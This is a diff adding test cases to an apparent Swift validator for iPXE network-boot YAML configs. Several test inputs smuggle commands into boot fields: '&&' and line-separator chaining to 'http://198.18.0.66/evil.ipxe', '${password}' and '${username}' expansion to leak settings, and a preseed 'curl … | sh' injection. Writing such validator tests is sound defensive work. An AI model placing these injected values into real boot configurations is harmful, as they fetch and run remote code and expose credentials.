@@ -140,6 +140,16 @@ struct DiagnosticTests {
         Case(name: "a line separator in a profile's boot args",
              files: ["p.yaml": Sample.profile + "\n    args: \"auto=true\\Lchain http://198.18.0.66/evil.ipxe\"\n"],
              expected: [("p.yaml:8:11", #"'spec.boot.args' must be one line without control characters, found "auto=true\u{2028}chain"#)]),
+        // iPXE ends a command at a `&&`, `||` or `;` word and expands `${…}`, all on one line.
+        Case(name: "an iPXE command separator in kernelArgs",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  kernelArgs: \"quiet && chain http://198.18.0.66/evil.ipxe\"\n")],
+             expected: [("m.yaml:8:15", "'spec.kernelArgs' must not contain the word '&&': iPXE would read it as a command of its own")]),
+        Case(name: "an iPXE setting in a profile's boot args and kernel URL",
+             files: ["p.yaml": Sample.profile.replacingOccurrences(of: "/linux", with: "/${password}/linux")
+                        + "\n    args: \"auto=true leak=${username}\"\n"],
+             expected: [("p.yaml:6:13", "'spec.boot.kernel' must not contain '${': iPXE would replace it with one of its settings"),
+                        ("p.yaml:8:11", "'spec.boot.args' must not contain '${': iPXE would replace it with one of its settings")]),
         Case(name: "a line break in disk",
              files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
                                               extra: "  disk: \"/dev/sda\\nd-i preseed/late_command string curl http://198.18.0.66/x | sh\"\n")],
